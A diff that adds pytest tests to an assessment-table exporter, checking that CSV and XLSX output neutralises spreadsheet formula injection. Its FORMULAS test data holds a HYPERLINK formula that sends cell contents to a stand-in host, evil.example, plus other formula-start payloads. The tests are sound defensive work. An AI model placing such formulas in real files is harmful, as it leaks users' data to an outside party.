@@ -74,3 +74,54 @@ def test_a_year_without_campaign_or_findings_is_an_empty_table():
     assert assessment.rows(2031, {"units": []}, {}, {}) == []
     with pytest.raises(ValueError, match="csv or xlsx"):
         assessment.export([], 2031, "pdf")
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"open")', "+1+2", "-3+4",
+            "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
+
+
+def _hostile_table(seed_views):
+    """The seed's table with ids and names from an upstream system that means harm."""
+    table = [dict(r) for r in _table(seed_views)[:len(FORMULAS)]]
+    for row, text in zip(table, FORMULAS):
+        row["unit_id"], row["unit_name"], row["visit_id"] = text, text + "名", text
+    table[0]["days_on_site"] = -1  # a number stays a number, whatever its sign
+    return table
+
+
+def test_a_csv_cell_that_a_spreadsheet_would_read_as_a_formula_is_written_as_text(seed_views):
+    table = _hostile_table(seed_views)
+    read = list(csv.DictReader(io.StringIO(
+        assessment.export(table, 2026, "csv").decode("utf-8-sig"))))
+    for text_row, text in zip(read, FORMULAS):
+        for column in ("unit_id", "unit_name", "visit_id"):
+            assert text_row[column].startswith("'"), (column, text_row[column])
+        assert text_row["unit_id"] == "'" + text  # the text itself is kept after the quote
+    assert read[0]["days_on_site"] == "-1"
+    # An ordinary text is left alone.
+    plain = list(csv.DictReader(io.StringIO(
+        assessment.export(_table(seed_views), 2026, "csv").decode("utf-8-sig"))))
+    assert not any(v.startswith("'") for r in plain for v in r.values())
+
+
+def test_an_xlsx_cell_that_begins_like_a_formula_is_a_string_cell(seed_views):
+    import zipfile
+
+    from openpyxl import load_workbook
+
+    table = _hostile_table(seed_views)
+    raw = assessment.export(table, 2026, "xlsx")
+    sheet = load_workbook(io.BytesIO(raw)).active
+    header = [c.value for c in sheet[1]]
+    for cells, row in zip(sheet.iter_rows(min_row=2), table):
+        for cell, column in zip(cells, header):
+            assert cell.data_type != "f", (column, cell.value)
+            if isinstance(row[column], str):
+                # (XML reads a carriage return back as a line feed)
+                assert (cell.data_type, cell.value) == ("s", row[column].replace("\r", "\n"))
+                assert cell.quotePrefix == row[column].startswith(assessment.FORMULA_START)
+    assert sheet.cell(2, header.index("days_on_site") + 1).value == -1
+    # And in the file itself: no formula element anywhere.
+    with zipfile.ZipFile(io.BytesIO(raw)) as book:
+        assert not any(b"<f>" in book.read(n) or b"<f " in book.read(n)
+                       for n in book.namelist() if n.endswith(".xml"))
